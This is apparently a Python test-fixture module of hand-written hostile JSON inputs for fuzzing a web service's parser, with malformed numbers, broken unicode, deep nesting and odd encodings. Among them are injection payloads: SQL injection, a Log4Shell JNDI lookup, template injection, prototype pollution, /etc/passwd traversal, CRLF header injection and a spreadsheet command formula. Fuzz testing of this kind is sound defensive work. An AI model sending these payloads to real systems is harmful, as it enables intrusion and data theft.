"""Hostile JSON text: values, names of members, whole bodies, encodings.

Written by hand, because no JSON serialiser produces most of it. `zqcanaryqz` is the placeholder of a run's canary.
"""

from typing import Final

NUMBERS: Final = (
    *("NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1E+400", "1e-999", "1e99999999999", "-0", "-0.0", "0.1"),
    *("00", "0x10", "1_000", ".5", "1.", "+1", "٣", str(2**53), str(2**63), str(-(2**63)), str(2**64), str(2**128)),
    *("1.7976931348623157e308", "1" + "0" * 4299, "9" * 4301, "-" + "9" * 5000, "1e" + "9" * 4400),
    *("0." + "0" * 400 + "1", "253402300800", "-62135596801", "1e18", "79160000099", "0", "-1", "25", "61"),
)
LITERALS: Final = ("null", "true", "false", "True", "nil", "undefined", "")
_TEXTS: Final = (
    *("", " ", "\\ud800", "\\udfff", "\\ude00\\ud83d", "\\ud83d\\ude00", "\\u0000", "\\u0001", "\\u001b[31mzqcanaryqz"),
    *("zqcanaryqz\\r\\nSet-Cookie: zqcanaryqz=1", "zqcanaryqz\\u0085\\u2028\\u2029", "\\u202ezqcanaryqz", "\\ufeff"),
    *(
        "\\ufffe\\uffff",
        "\\u007fzqcanaryqz",
        "\\x41",
        "\\u12",
        "\\u{41}",
        "\\'",
        "\\",
        "zqcanaryqz\n",
        "\x00",
        "\x1b[2J",
    ),
    *("__proto__", "constructor", "../../../../etc/passwd", "${jndi:ldap://zqcanaryqz.example/a}", "{{7*7}}zqcanaryqz"),
    *("'; DROP TABLE callbacks; --zqcanaryqz", "zqcanaryqz' OR '1'='1", "%s%n%x%(message)s", "{0.__class__}zqcanaryqz"),
    *(
        "<script>zqcanaryqz</script>",
        "=cmd|' /C calc'!A0",
        "javascript:zqcanaryqz()",
        "data:,zqcanaryqz",
        "file:///etc",
    ),
    *(
        "http://zqcanaryqz:zqcanaryqz@shop.example/",
        "http://[::1",
        "http://[v1.zqcanaryqz]/",
        "https://shop.example\\\\@x",
    ),
    *("https://shop.example/?a=1&PrivateSecurityKey=zqcanaryqz", "https://shop.example/?zqcanaryqz#~%D0%BF+;,é"),
    *(
        "https://shop.example:99999/",
        "https://ЗАКАЗ.рф/",
        "https://shop.example/\\u0000",
        "1&client_id=1&SecurityKey=0",
    ),
    *(
        "\\u0130\\u00df\\ufdfa",
        "a" + "\\u0301" * 200,
        "👩‍👩‍👧‍👧",
        "٨٩١٦٠٠٠٠٠٩٩",
        "8916000009９",
        "+7 916 000-00-99;ext=5",
    ),
    *("2026-02-30T25:61:61Z", "0000-00-00", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "1e999"),
    *("::ffff:127.0.0.1", "fe80::1%zqcanaryqz", "127.1", "0x7f000001", "192.0.2.1/24", "always_call ", "create_lead"),
    *(
        "zqcanaryqz" * 7,
        "zqcanaryqz" * 51,
        "zqcanaryqz" * 500,
        "zqcanaryqz" * 1550,
        "https://shop.example/" + "é" * 7000,
    ),
)
STRINGS: Final = tuple(f'"{text}"' for text in _TEXTS)
STRUCTURES: Final = (
    *("[]", "{}", "[[]]", "[null]", '["zqcanaryqz"]', '{"__proto__":{"zqcanaryqz":1}}', '{"$ne":null}', '{"":""}'),
    *("[" * 500 + "]" * 500, "[" * 7000 + "]" * 7000, '{"a":' * 2000 + "1" + "}" * 2000, "[" + "0," * 7000 + "0]"),
    *('{"accepted":true,"zqcanaryqz":1}', '{"accepted":"yes"}', '{"accepted":true,"version":["zqcanaryqz"]}'),
    *('{"accepted":true,"text":"zqcanaryqz\\u001b[31m"}', '{"accepted":NaN}', '{"accepted":true,"accepted":1e999}'),
)
VALUES: Final = (*NUMBERS, *LITERALS, *STRINGS, *STRUCTURES)
NAMES: Final = (
    *("__proto__", "constructor", "prototype", "toString", "__class__", "__init__", "__dict__", "model_config", "self"),
    *("body", "loc", "Site", "site ", "site\\u0000", "client_phone[]", "client_phone.x", "$where", "", " ", "\\ud800"),
    *("zqcanaryqz", "zqcanaryqz\\r\\n", "zqcanaryqz" * 200, "\\u001b[31mzqcanaryqz", "9" * 5000),
)
WHOLE: Final = (
    *(
        b"",
        b" ",
        b"\n",
        b"{",
        b"}",
        b"[]",
        b"null",
        b"true",
        b"1",
        b'""',
        b'"zqcanaryqz"',
        b"[1,2]",
        b"NaN",
        b"-Infinity",
    ),
    *(b"1e999", b"9" * 4301, b"[" * 16384, b"[" * 100_000, b"]" * 100, b'{"a":' * 3000, b"{}" * 2, b"{,}", b'{"site"}'),
    *(
        b"site=shop&client_phone=89160000099",
        b"<xml>zqcanaryqz</xml>",
        b"\x00",
        b"\xff\xfe",
        b"\x80zqcanaryqz",
        b"\xc0\xaf",
    ),
    *(
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"\x1f\x8b\x08\x00zqcanaryqz",
        b"PK\x03\x04",
        b"--x\r\n\r\nzqcanaryqz\r\n--x--",
    ),
    *(b'{"site":"shop","client_phone":"89160000099"}x', b'{"site":"shop","client_phone":"89160000099"}\x00'),
    *(b"/*zqcanaryqz*/{}", b"{'site':'shop'}", b"{site:1}", b'{"site":"shop",}', b'{"site":"shop" "a":1}', b"\xa0{}"),
    *(
        b'{"site":"\xed\xa0\x80"}',
        b'{"site":"\xe9zqcanaryqz"}',
        b'{"\\ud800":1}',
        b'{"site":"shop","\\udfff":"zqcanaryqz"}',
    ),
    *(b'{"site":"shop","site":"zqcanaryqz","client_phone":"89160000099"}', b'{"client_phone":1,"client_phone":1e999}'),
    b"{" + b",".join(b'"zqcanaryqz%d":0' % n for n in range(900)) + b"}",
    b'{"site":"' + b"zqcanaryqz" * 20_000 + b'"}',
)
ENCODINGS: Final = (
    "utf-8-sig",
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "utf-32",
    "utf-32-le",
    "utf-32-be",
    "utf-7",
    "cp037",
)
